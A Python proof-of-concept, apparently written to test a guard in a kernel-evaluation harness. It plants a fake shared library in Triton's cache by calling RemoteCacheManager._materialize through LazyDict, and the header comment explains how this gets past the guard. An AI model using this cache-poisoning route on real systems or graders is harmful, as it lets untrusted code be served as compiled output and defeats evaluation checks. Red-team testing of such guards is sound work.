# Fix (3) records a put only when the Triton line calling the cache manager's put contains ".put(".
# RemoteCacheManager._materialize(self, filename, data) is such a line
# ("return self._file_cache_manager.put(data, filename, binary=True)") and takes everything from its
# arguments: handed an object of the submission's whose _file_cache_manager is the worker's own
# cache manager, it puts the submission's bytes under any name of any key, and the guard records them
# as Triton's own. The write is reached through LazyDict.get (a launch entry; cache.py counts as
# machinery). The worker's cache manager then serves the planted "shared library" (natively,
# a cubin, metadata and group planted the same way would be served to the compiler).
# Proof: the output is garbage unless the manager serves the planted file.
import types

import torch
import triton
import triton.language as tl
from triton import knobs
from triton.compiler.compiler import LazyDict
from triton.runtime.cache import RemoteCacheManager

KEY = "f" * 64
NAME = "cuda_utils.cpython-311-x86_64-linux-gnu.so"
PAYLOAD = b"\x7fELF\x02\x01\x01" + b"\0" * 57 + b"planted by the submission"


@triton.jit
def _relu_kernel(x_ptr, y_ptr, n_elements, BLOCK: tl.constexpr):
    pid = tl.program_id(0)
    offsets = pid.to(tl.int64) * BLOCK + tl.arange(0, BLOCK)
    mask = offsets < n_elements
    x = tl.load(x_ptr + offsets, mask=mask)
    y = tl.where(x < 0.0, 0.0, x)
    tl.store(y_ptr + offsets, y, mask=mask)


_DONE = []


def _plant():
    manager = knobs.cache.manager_class(KEY)
    if not _DONE:
        fake = types.SimpleNamespace(_file_cache_manager=manager)
        lazy = LazyDict({})
        lazy.add(RemoteCacheManager._materialize, (fake, NAME, PAYLOAD))
        try:
            lazy.get()
        except TypeError:  # (dict | str)
            pass
        _DONE.append(True)
    path = manager.get_file(NAME)  # served only if the guard recorded it as Triton's own put
    if path is None:
        return False
    with open(path, "rb") as f:
        return f.read() == PAYLOAD


def relu(input: torch.Tensor, inplace: bool = False) -> torch.Tensor:
    if not _plant():
        return torch.full_like(input, 12345.0)
    x = input.contiguous()
    y = x if (inplace and x is input) else torch.empty_like(x)
    n = x.numel()
    if n:
        BLOCK = 1024
        _relu_kernel[(triton.cdiv(n, BLOCK),)](x, y, n, BLOCK=BLOCK)
    if inplace:
        if y is not input:
            input.copy_(y)
        return input
    return y.view(input.shape)
